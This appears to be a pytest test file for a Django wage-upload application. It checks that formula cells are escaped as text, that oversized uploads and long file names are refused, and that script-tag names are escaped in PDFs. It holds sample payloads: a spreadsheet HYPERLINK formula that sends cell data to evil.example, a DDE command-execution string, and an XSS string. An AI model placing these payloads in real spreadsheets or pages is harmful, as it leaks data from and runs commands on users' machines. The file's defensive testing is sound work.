"""Bounded input on the wage pages and API: formula cells in the wage template (CSV and XLSX) and in the error CSV
read back as text; an upload above the size limit, or with a name too long, refused with a message naming the file
(a form error on the page, a 422 in the API, in the user's language) and nothing stored."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from world import World

from paritrana.contributions.models import WageReport, WageUpload
from paritrana.core.limits import MIB

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
ATTACK = "=cmd|' /C calc'!A0"


def english(client: Any) -> Any:
    client.client.cookies["django_language"] = "en"
    return client


def page_client(world: World, role: str, language: str = "en") -> Client:
    c = Client()
    c.force_login(world.users[role])
    c.cookies["django_language"] = language
    return c


@pytest.fixture
def formula_worker(world: World) -> Any:
    w = world.workers["W33PU"]
    w.name = FORMULA
    w.save(update_fields=["name"])
    return w


def test_the_wage_template_writes_a_formula_name_as_text(world: World, formula_worker: Any) -> None:
    hr = page_client(world, "hr")
    e33 = world.employers["E33"].pk
    rows = list(csv.reader(io.StringIO(hr.get(f"/employers/{e33}/wages/template/").content.decode())))
    assert [formula_worker.nik, rows[1][1], "", "'" + FORMULA] in rows
    book = openpyxl.load_workbook(io.BytesIO(hr.get(f"/employers/{e33}/wages/template/?format=xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value and str(c.value).endswith('"Klik")')]
    assert [(c.value, c.data_type) for c in cells] == [("'" + FORMULA, "s")]
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


def test_the_error_csv_writes_a_formula_value_as_text(world: World) -> None:
    hr = page_client(world, "hr")
    e33 = world.employers["E33"].pk
    content = f"nik;bulan;upah\n{world.workers['W33PU'].nik};{ATTACK};3500000\n".encode()
    hr.post(f"/employers/{e33}/wages/upload/", {"file": SimpleUploadedFile("upah.csv", content)})
    upload = WageUpload.objects.get()
    rows = list(csv.reader(io.StringIO(hr.get(f"/wage-uploads/{upload.pk}/errors.csv").content.decode("utf-8-sig"))))
    assert rows[1][:2] == ["2", "month"]
    assert rows[1][2] == "'" + ATTACK + " is not a month; write it as YYYY-MM, e.g. 2025-03"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def big_csv(size: int) -> bytes:
    line = b"3374010101850003;2025-03;3500000\n"
    return b"nik;bulan;upah\n" + line * (size // len(line) + 1)


def test_a_50_mb_csv_is_refused_quickly_on_the_page_and_in_the_api(world: World, api: Any) -> None:
    e33 = world.employers["E33"].pk
    data = big_csv(50 * MIB)
    started = time.perf_counter()
    page = page_client(world, "hr", "id").post(
        f"/employers/{e33}/wages/upload/", {"file": SimpleUploadedFile("upah.csv", data)}
    )
    assert page.status_code == 200
    assert "berkas lebih besar dari 20 MB" in page.content.decode()
    client = api("hr")
    answer = client.call(
        "post", f"/api/employers/{e33}/wage-uploads", data={"file": SimpleUploadedFile("upah.csv", data)}
    )
    assert answer.status_code == 422, answer.content
    [detail] = answer.json()["detail"]
    assert detail["loc"][-1] == "file" and "20 MB" in detail["msg"] and "berkas" in detail["msg"]
    assert time.perf_counter() - started < 20
    assert WageUpload.objects.count() == 0 and WageReport.objects.count() == 0


def multipart(file_name: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body sent as a browser would (the test client's files shorten a name to 255 characters)."""
    boundary = "----paritrana-boundary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{file_name}"\r\n'
            f"Content-Type: text/csv\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("length", [600, 5_000])
def test_a_long_file_name_is_a_clear_4xx(world: World, api: Any, length: int) -> None:
    e33 = world.employers["E33"].pk
    name = "u" * length + ".csv"
    body, content_type = multipart(name, f"nik;bulan;upah\n{world.workers['W33PU'].nik};2025-03;3500000\n".encode())
    page = page_client(world, "hr", "id").post(f"/employers/{e33}/wages/upload/", body, content_type=content_type)
    expected = 200 if length < 1_000 else 400  # a form error; a heading Django cannot parse
    assert page.status_code == expected
    assert "nama berkas" in page.content.decode() and "255" in page.content.decode()
    token = world.tokens["hr"]
    answer = Client().post(
        f"/api/employers/{e33}/wage-uploads", body, content_type=content_type, HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    assert answer.status_code in (400, 422) and answer["Content-Type"].startswith("application/json")
    [detail] = answer.json()["detail"]
    assert detail["loc"][-1] == "file" and "255" in detail["msg"] and "nama berkas" in detail["msg"]
    assert WageUpload.objects.count() == 0 and WageReport.objects.count() == 0


SCRIPT_NAME = 'Budi <script>alert(1)</script> & "Bud"'


def pdf_text(content: bytes, tmp_path: Path) -> str:
    assert content.startswith(b"%PDF-"), content[:20]
    pdftotext = shutil.which("pdftotext")
    assert pdftotext is not None, "pdftotext is missing: ./dev test installs poppler-utils"
    path = tmp_path / "document.pdf"
    path.write_bytes(content)
    return re.sub(
        r"\s+", " ", subprocess.run([pdftotext, str(path), "-"], capture_output=True, text=True, check=True).stdout
    )


def test_pdf_footers_show_a_name_once_escaped(world: World, tmp_path: Path) -> None:
    from paritrana.contributions import documents
    from paritrana.contributions.models import Bill, JhtEntry, Payer
    from paritrana.contributions.services.billing import run_billing

    employer = world.employers["E33"]
    employer.name = SCRIPT_NAME
    employer.save(update_fields=["name"])
    run_billing(dt.date(2025, 3, 1))
    bill = Bill.objects.get(payer=Payer.objects.get(employer=employer), period=dt.date(2025, 3, 1), kind="contribution")
    text = pdf_text(documents.bill_pdf(world.users["hr"], bill.pk, "en").content, tmp_path)
    assert f"Paritrana · Bill {bill.pk} · {SCRIPT_NAME} · March 2025" in text, text[-400:]
    assert "&lt;" not in text and "&amp;" not in text and "&quot;" not in text
    w = world.workers["W33PU"]
    w.name = SCRIPT_NAME
    w.save(update_fields=["name"])
    JhtEntry.objects.create(worker=w, kind="contribution", value_date=dt.date(2025, 4, 10), amount=1000, reference="x")
    pdf = documents.statement_pdf(world.users["heir"], w.pk, dt.date(2025, 1, 1), dt.date(2025, 12, 31), "en")
    text = pdf_text(pdf.content, tmp_path)
    assert f"JHT account statement · {SCRIPT_NAME} · 1 January 2025" in text, text[-400:]
    assert "&lt;" not in text and "&amp;" not in text


@override_settings(UPLOAD_LIMITS={"errors_shown": 10})
def test_the_answer_to_a_file_of_many_errors_is_bounded(world: World, api: Any) -> None:
    e33 = world.employers["E33"].pk
    nik = world.workers["W33PU"].nik
    lines = ["nik;bulan;upah", *(f"{nik};2025-13;{i}" for i in range(40)), *("1234;2025-03;1" for _ in range(5))]
    data = {"file": SimpleUploadedFile("upah.csv", ("\n".join(lines) + "\n").encode())}
    answer = english(api("hr")).call("post", f"/api/employers/{e33}/wage-uploads", data=data)
    assert answer.status_code == 201, answer.content
    errors = answer.json()["errors"]
    assert len(errors) == 11 and [e["row"] for e in errors[:10]] == list(range(2, 12))
    assert errors[-1] == {"row": None, "field": "file", "message": "35 more errors are not shown; correct these and upload the file again"}  # fmt: skip
    assert WageReport.objects.count() == 0
    page = page_client(world, "hr", "id").get(f"/wage-uploads/{answer.json()['id']}/").content.decode()
    assert 'id="upload-error-count">45<' in page and "35 kesalahan lain tidak ditampilkan" in page
